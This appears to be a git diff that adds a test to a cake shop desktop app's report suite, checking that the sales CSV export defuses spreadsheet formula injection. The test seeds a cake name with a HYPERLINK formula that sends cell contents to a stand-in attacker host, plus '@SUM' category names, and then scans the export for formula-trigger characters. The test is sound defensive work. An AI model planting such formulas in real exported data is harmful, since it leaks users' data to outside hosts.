@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import re
 import time
 from collections.abc import Iterator
 from datetime import date, timedelta
@@ -16,6 +17,7 @@ from PySide6.QtGui import QColor
 from PySide6.QtPdf import QPdfDocument
 from PySide6.QtPrintSupport import QPrintDialog, QPrinter
 from PySide6.QtWidgets import QDialog, QFileDialog
+from sqlalchemy import text
 
 from cakeshop_desktop.core.report_types import ReportGrain, SalesReport
 from cakeshop_desktop.core.services import reports
@@ -212,6 +214,40 @@ def test_ctrl_p_prints_the_report_on_the_chosen_printer(
     pdf.load(str(target))
     assert pdf.pageCount() >= 1
     assert "Sales report" in pdf.getAllText(0).text()
+
+
+def test_the_csv_export_keeps_typed_text_from_running_as_a_formula(
+    qtbot: Any, history: Shop, workers: Workers, tmp_path: Path
+) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Медовик")'
+    with history.uow.engine.begin() as db:
+        db.execute(text("UPDATE categories SET name = '@SUM(' || id || ')'"))
+        db.execute(text("UPDATE cakes SET name = :n"), {"n": hostile})
+    window = _open(qtbot, history, workers)
+    with qtbot.waitSignal(window.report_shown, timeout=WAIT_MS):
+        window.set_period(date.today() - timedelta(days=60), date.today())
+    path = window.export_csv(tmp_path / "sales.csv")
+    decimal = QLocale().decimalPoint()
+    rows = list(
+        csv.reader(
+            path.read_text(encoding="utf-8-sig").splitlines(),
+            delimiter=";" if decimal == "," else ",",
+        )
+    )
+    start = rows.index(["Top cakes by revenue"]) + 2
+    first = rows[start]
+    assert first[TopCakesModel.COL_NAME] == "'" + hostile
+    assert first[TopCakesModel.COL_CATEGORY].startswith("'@SUM(")
+    cake = window.report.top_by_revenue[0]  # type: ignore[union-attr]
+    assert first[TopCakesModel.COL_REVENUE] == f"{cake.revenue:.2f}".replace(".", decimal)
+    live = [
+        cell
+        for row in rows
+        for cell in row
+        if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
+        and not re.fullmatch(r"-?\d+(?:[.,]\d+)?", cell)
+    ]
+    assert not live  # no cell a spreadsheet would run
 
 
 def test_window_stays_responsive_and_drops_stale_results(
